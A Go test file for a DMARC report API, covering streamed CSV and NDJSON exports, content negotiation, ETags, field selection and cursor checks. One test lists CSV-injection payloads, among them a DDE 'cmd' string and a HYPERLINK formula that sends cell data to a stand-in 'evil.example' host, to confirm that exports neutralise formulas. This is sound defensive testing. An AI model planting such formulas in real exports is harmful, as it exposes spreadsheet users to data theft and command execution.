package api_test

import (
	"bufio"
	"compress/gzip"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/dmarcd/dmarcd/api"
	"github.com/dmarcd/dmarcd/dmarc"
)

// A long list of reports, page by page.
type long struct {
	fake
	n      int
	failAt int    // the first report that cannot be read; 0 for none
	each   func() // called for each page
	org    string
}

func (l *long) Reports(_ context.Context, q dmarc.ReportQuery) (page []dmarc.ReportSummary, next dmarc.Cursor, err error) {
	l.last = q
	if l.each != nil {
		l.each()
	}
	begin, _ := strconv.Atoi(string(q.After))
	for i := begin; i < l.n && len(page) < q.Limit; i++ {
		if l.failAt > 0 && i >= l.failAt {
			return nil, "", errors.New("the database is gone")
		}
		r := dmarc.ReportSummary{ID: fmt.Sprint("1-", i), ReceivedAt: day, Active: true}
		r.Report.Reporter.OrgName, r.Report.Tally = l.org, sum
		page = append(page, r)
	}
	if begin+len(page) < l.n {
		next = dmarc.Cursor(strconv.Itoa(begin + len(page)))
	}
	return page, next, nil
}

func serve(t *testing.T, l *long) *httptest.Server {
	server := httptest.NewServer(api.New(l, l, api.Options{Now: func() time.Time { return day }}))
	t.Cleanup(server.Close)
	return server
}

func fetch(t *testing.T, url string, headers ...string) *http.Response {
	t.Helper()
	req, err := http.NewRequest("GET", url, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	resp, err := http.DefaultTransport.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { resp.Body.Close() })
	return resp
}

// Ten times as many items cost ten times as many allocations, and no more memory.
func TestAListOfAnyLengthIsStreamedInConstantMemory(t *testing.T) {
	for _, format := range []string{"csv", "ndjson"} {
		perItem := map[int]float64{}
		highest := map[int]uint64{}
		for _, n := range []int{10_000, 100_000} {
			l := &long{n: n, org: "org"}
			pages := 0
			l.each = func() {
				if pages++; pages%20 == 0 {
					var m runtime.MemStats
					runtime.GC()
					runtime.ReadMemStats(&m)
					highest[n] = max(highest[n], m.HeapAlloc)
				}
			}
			server := serve(t, l)
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			resp := fetch(t, server.URL+"/api/v1/reports?format="+format)
			lines := 0
			for scan := bufio.NewScanner(resp.Body); scan.Scan(); lines++ {
			}
			runtime.ReadMemStats(&after)
			if format == "csv" {
				lines--
			}
			if lines != n || resp.ContentLength >= 0 {
				t.Errorf("%s: %d lines of %d, length %d", format, lines, n, resp.ContentLength)
			}
			perItem[n] = float64(after.Mallocs-before.Mallocs) / float64(n)
		}
		t.Logf("%s: allocations an item %.1f and %.1f, at most %d and %d KiB in use", format, perItem[10_000], perItem[100_000], highest[10_000]>>10, highest[100_000]>>10)
		if perItem[100_000] > 1.2*perItem[10_000] || highest[100_000] > highest[10_000]+4<<20 {
			t.Errorf("%s: allocations an item %v, memory %v", format, perItem, highest)
		}
	}
}

func TestAStreamThatFailsMidwayBreaksOff(t *testing.T) {
	for _, encoding := range []string{"identity", "gzip"} {
		for _, format := range []string{"csv", "ndjson"} {
			server := serve(t, &long{n: 5000, failAt: 1200})
			resp := fetch(t, server.URL+"/api/v1/reports?format="+format, "Accept-Encoding", encoding)
			var body io.Reader = resp.Body
			if encoding == "gzip" {
				z, err := gzip.NewReader(body)
				if err != nil {
					t.Fatal(err)
				}
				body = z
			}
			text, err := io.ReadAll(body)
			if resp.StatusCode != 200 || err == nil || !strings.Contains(string(text), "1-999") {
				t.Errorf("%s %s: %d, %v after %d bytes", encoding, format, resp.StatusCode, err, len(text))
			}
			// What fails at once is a problem.
			server = serve(t, &long{n: 5000, failAt: 1})
			if resp := fetch(t, server.URL+"/api/v1/reports?format="+format); resp.StatusCode != 500 || resp.Header.Get("Content-Type") != "application/problem+json" {
				t.Errorf("%s: %d %s", format, resp.StatusCode, resp.Header)
			}
		}
	}
}

func TestTheFormOfAListIsWhatIsAskedFor(t *testing.T) {
	for _, c := range []struct{ query, accept, want string }{
		{"", "", "application/json"},
		{"", "*/*", "application/json"},
		{"", "text/html, application/xhtml+xml, */*;q=0.8", "application/json"},
		{"", "text/csv", "text/csv; charset=utf-8; header=present"},
		{"", "application/json;q=0.5, text/csv", "text/csv; charset=utf-8; header=present"},
		{"", "text/csv, application/json", "application/json"},
		{"", "text/csv;q=0", "application/json"},
		{"", "text/csv; header=present; q=0.4, application/x-ndjson; q=0.7", "application/x-ndjson"},
		{"", "application/ndjson", "application/x-ndjson"},
		{"format=csv", "application/json", "text/csv; charset=utf-8; header=present"},
		{"format=json", "text/csv", "application/json"},
		{"format=ndjson", "", "application/x-ndjson"},
	} {
		server := serve(t, &long{n: 3})
		resp := fetch(t, server.URL+"/api/v1/reports?"+c.query, "Accept", c.accept)
		if got := resp.Header.Get("Content-Type"); got != c.want || !strings.Contains(strings.Join(resp.Header.Values("Vary"), ","), "Accept,") {
			t.Errorf("%s %s: %s, want %s; %s", c.query, c.accept, got, c.want, resp.Header)
		}
		if download := resp.Header.Get("Content-Disposition"); (download != "") != (c.want != "application/json") {
			t.Errorf("%s %s: %s", c.query, c.accept, download)
		}
	}
	// A limit bounds the stream as well, and so does where it begins.
	server := serve(t, &long{n: 3000})
	var page struct{ Next string }
	if err := json.NewDecoder(fetch(t, server.URL+"/api/v1/reports?limit=800").Body).Decode(&page); err != nil {
		t.Fatal(err)
	}
	for query, want := range map[string]int{"limit=700": 700, "limit=3": 3, "": 3000, "after=" + page.Next: 2200, "limit=1000&after=" + page.Next: 1000} {
		text, err := io.ReadAll(fetch(t, server.URL+"/api/v1/reports?format=ndjson&"+query).Body)
		if got := strings.Count(string(text), "\n"); got != want || err != nil {
			t.Errorf("%s: %d lines, want %d; %v", query, got, want, err)
		}
	}
}

func TestWhatAClientHasIsNotSentAgain(t *testing.T) {
	server := serve(t, &long{n: 50})
	for _, encoding := range []string{"identity", "gzip", "gzip;q=0, identity"} {
		for _, path := range []string{"/api/v1/reports", "/api/v1/reports?format=csv", "/api/v1/domains/a.example/summary", "/api/v1/openapi.json", "/api/v1/reports/1-1"} {
			resp := fetch(t, server.URL+path, "Accept-Encoding", encoding)
			tag := resp.Header.Get("ETag")
			packed := resp.Header.Get("Content-Encoding") == "gzip"
			if len(tag) < 34 || tag[0] != '"' || packed != strings.HasSuffix(tag, `-gzip"`) || packed && encoding != "gzip" || resp.Header.Get("Cache-Control") != "private, no-cache" ||
				!slices.Contains(strings.FieldsFunc(strings.Join(resp.Header.Values("Vary"), ","), func(r rune) bool { return r == ',' || r == ' ' }), "Accept-Encoding") {
				t.Errorf("%s %s: %s", encoding, path, resp.Header)
			}
			for _, match := range []string{tag, `"other", W/` + tag, "*"} {
				again := fetch(t, server.URL+path, "Accept-Encoding", encoding, "If-None-Match", match)
				body, err := io.ReadAll(again.Body)
				if again.StatusCode != 304 || len(body) > 0 || err != nil || again.Header.Get("Content-Encoding") != "" || again.Header.Get("ETag") == "" {
					t.Errorf("%s %s with %s: %d, %d bytes, %s", encoding, path, match, again.StatusCode, len(body), again.Header)
				}
			}
			if other := fetch(t, server.URL+path, "If-None-Match", `"0123"`); other.StatusCode != 200 {
				t.Errorf("%s: %d", path, other.StatusCode)
			}
		}
	}
	// What is long has none, and problems neither.
	server = serve(t, &long{n: 9000})
	if resp := fetch(t, server.URL+"/api/v1/reports?format=ndjson"); resp.Header.Get("ETag") != "" {
		t.Errorf("%s", resp.Header)
	}
	if resp := fetch(t, server.URL+"/api/v1/nothing", "If-None-Match", "*"); resp.StatusCode != 404 || resp.Header.Get("ETag") != "" {
		t.Errorf("%d %s", resp.StatusCode, resp.Header)
	}
}

// What a stranger wrote stays text, however a spreadsheet divides and unquotes a line.
func TestCellsOfCSVAreNoFormulas(t *testing.T) {
	for _, org := range []string{
		`=1+1`, `+1`, `-1`, `@SUM(A1)`, "\t=1", "\r=1", "\n=1", ` =1`, "a\n=1", "a\r\n=cmd|'/C calc'!A0", `a;=1`, `a; =1;b`, `"=1`, `a";"=1`, `a,=1`, `=HYPERLINK("https://evil.example?x="&A1,"x")`,
		"\u00a0=1", "\ufeff=1", "＝1", "＋1", "a\x00=1", "a\u2028=1", `'=1`, `;;=1`, `"";=1`,
	} {
		server := serve(t, &long{n: 1, org: org})
		text, err := io.ReadAll(fetch(t, server.URL+"/api/v1/reports?format=csv&fields=id,org_name,totals.messages").Body)
		if err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(strings.TrimSuffix(string(text), "\r\n"), "\r\n")
		if len(lines) != 2 || lines[0] != "id,org_name,totals.messages" || strings.ContainsAny(lines[1], "\t\r\n\x00") {
			t.Errorf("%q: %q", org, text)
			continue
		}
		check := func(cell string) {
			bare := strings.TrimLeft(cell, " \"\u00a0")
			if bare != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(bare)[0]) {
				t.Errorf("%q: the cell %q of %q begins a formula", org, cell, lines[1])
			}
		}
		read, err := csv.NewReader(strings.NewReader(lines[1])).Read()
		if err != nil || len(read) != 3 || read[2] != "10" {
			t.Errorf("%q: %q, %v", org, read, err)
			continue
		}
		check(read[1])
		// Some divide at semicolons, with no regard for quotes in the middle of a line.
		for _, cell := range strings.Split(strings.SplitN(lines[1], ",", 2)[1], ";") {
			check(cell)
		}
	}
}

func TestFieldsChooseWhatOfItemsIsAnswered(t *testing.T) {
	l := &long{n: 1, org: `a "b" <c>`}
	for query, want := range map[string]string{
		"fields=id":                             `{"items":[{"id":"1-0"}],"next":null}`,
		"fields=totals.messages,id,totals.rows": `{"items":[{"totals":{"messages":10,"rows":2},"id":"1-0"}],"next":null}`,
		"fields=org_name,email,published.p,flags,active,begin": `{"items":[{"org_name":"a \"b\" <c>","email":null,"published":{"p":null},"flags":[],"active":true,"begin":"0001-01-01T00:00:00Z"}],"next":null}`,
		"fields=id,seen&format=ndjson":                         `{"id":"1-0","seen":0}`,
		"fields=totals.reject,org_name,active&format=csv":      "totals.reject,org_name,active\r\n" + `1,"a ""b"" <c>",true` + "\r",
	} {
		resp := fetch(t, serve(t, l).URL+"/api/v1/reports?"+query)
		text, _ := io.ReadAll(resp.Body)
		if got := strings.TrimSuffix(string(text), "\n"); got != want || resp.StatusCode != 200 {
			t.Errorf("%s: %d\n got %s\nwant %s", query, resp.StatusCode, got, want)
		}
	}
	for _, bad := range []string{"nothing", "totals.nothing", "id.x", "id,,totals", "totals."} {
		w := ask(t, &l.fake, "GET", "/api/v1/reports?fields="+bad+"&from=x", "")
		if w.Code != 422 || !strings.Contains(w.Body.String(), "query.fields") || !strings.Contains(w.Body.String(), "query.from") || strings.Count(w.Body.String(), "location") != 2 {
			t.Errorf("%s: %d %s", bad, w.Code, w.Body)
		}
	}
	// All that is there is what stands in the whole item.
	var whole, picked struct{ Items []map[string]any }
	if err := json.Unmarshal(ask(t, &l.fake, "GET", "/api/v1/domains", "").Body.Bytes(), &whole); err != nil {
		t.Fatal(err)
	}
	var names []string
	for name := range whole.Items[0] {
		names = append(names, name)
	}
	if err := json.Unmarshal(ask(t, &l.fake, "GET", "/api/v1/domains?fields="+strings.Join(names, ","), "").Body.Bytes(), &picked); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(whole, picked) {
		t.Errorf("got %v, want %v", picked, whole)
	}
}

func TestACursorGoesOnWithItsOwnListAlone(t *testing.T) {
	l := &long{n: 3000}
	server := serve(t, l)
	next := func(query string) string {
		t.Helper()
		var page struct{ Next string }
		if err := json.NewDecoder(fetch(t, server.URL+"/api/v1/reports?"+query).Body).Decode(&page); err != nil || page.Next == "" {
			t.Fatalf("%s: %v %q", query, err, page.Next)
		}
		return page.Next
	}
	cursor := next("domain=a.example&limit=5")
	for query, want := range map[string]int{
		"domain=a.example&after=" + cursor:                                200,
		"limit=7&fields=id&domain=a.example&after=" + cursor:              200,
		"domain=b.example&after=" + cursor:                                400,
		"after=" + cursor:                                                 400,
		"domain=a.example&inactive=true&after=" + cursor:                  400,
		"domain=a.example&from=2026-01-01&after=" + cursor:                400,
		"domain=a.example&after=x" + cursor[1:]:                           200, // whatever the store makes of it
		"domain=a.example&after=" + strings.Split(cursor, ".")[0]:         400,
		"domain=a.example&after=..":                                       400,
		"domain=a.example&after=" + strings.Replace(cursor, ".", ".-", 1): 400,
	} {
		resp := fetch(t, server.URL+"/api/v1/reports?"+query)
		text, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != want || want == 400 && !strings.Contains(string(text), `"query.after"`) {
			t.Errorf("%s: %d, want %d: %s", query, resp.StatusCode, want, text)
		}
	}
	if resp := fetch(t, server.URL+"/api/v1/tls?domain=a.example&after="+cursor); resp.StatusCode != 400 {
		t.Errorf("in another list: %d", resp.StatusCode)
	}
	// The period is that of the first page, though the day has changed since.
	before := l.last.(dmarc.ReportQuery).Period
	later := api.New(l, l, api.Options{Now: func() time.Time { return day.AddDate(0, 0, 2) }})
	w := httptest.NewRecorder()
	later.ServeHTTP(w, httptest.NewRequest("GET", "/api/v1/reports?after="+next(""), nil))
	if got := l.last.(dmarc.ReportQuery).Period; w.Code != 200 || got != before {
		t.Errorf("%d, period %v, want %v", w.Code, got, before)
	}
}

func TestUnknownParametersAreRefusedByName(t *testing.T) {
	for _, path := range []string{"/api/v1/domains", "/api/v1/reports", "/api/v1/domains/a.example/summary", "/api/v1/overrules", "/api/v1/messages"} {
		w := ask(t, &fake{}, "GET", path+"?domian=a.example", "")
		if w.Code != 422 || !strings.Contains(w.Body.String(), "query.domian") {
			t.Errorf("%s: %d %s", path, w.Code, w.Body)
		}
	}
}
